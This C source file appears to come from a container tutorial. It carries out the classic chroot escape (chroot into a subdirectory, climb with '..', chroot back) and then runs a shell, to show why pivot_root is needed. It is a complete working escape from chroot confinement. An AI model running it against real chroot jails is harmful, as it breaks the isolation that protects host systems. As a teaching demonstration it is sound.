/* breakout: the classic chroot escape (see docs/tour/02-chroot-vs-pivot_root.md).
 *
 * chroot(2) changes what "/" means for path lookups, but not the current
 * directory.  So a process that may call chroot (CAP_SYS_CHROOT) does:
 *   1. chroot("escape")  -- a subdirectory; our cwd is now *outside* the root
 *   2. chdir("..") many times -- the kernel stops ".." only at the process's
 *      root, and we are no longer below it, so we climb to the real "/"
 *   3. chroot(".")       -- and make that our root again
 * Then it runs argv[1..] (default: a shell) in whatever "/" it reached.
 * After pivot_root(2) and unmounting the old root there is no "above" left
 * in the mount namespace: step 2 stops at the container's own root.
 *
 * Build (static, the container has no C library): gcc -static -o breakout breakout.c
 */
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv)
{
    mkdir("/escape", 0755);
    if (chdir("/") != 0 || chroot("/escape") != 0) {
        perror("breakout: chroot");
        return 1;
    }
    for (int i = 0; i < 64; i++)
        chdir("..");
    if (chroot(".") != 0) {
        perror("breakout: chroot");
        return 1;
    }
    if (argc > 1) {
        execv(argv[1], argv + 1);
    } else {
        char *sh[] = {"/bin/sh", NULL};
        execv(sh[0], sh);
    }
    perror("breakout: execv");
    return 127;
}
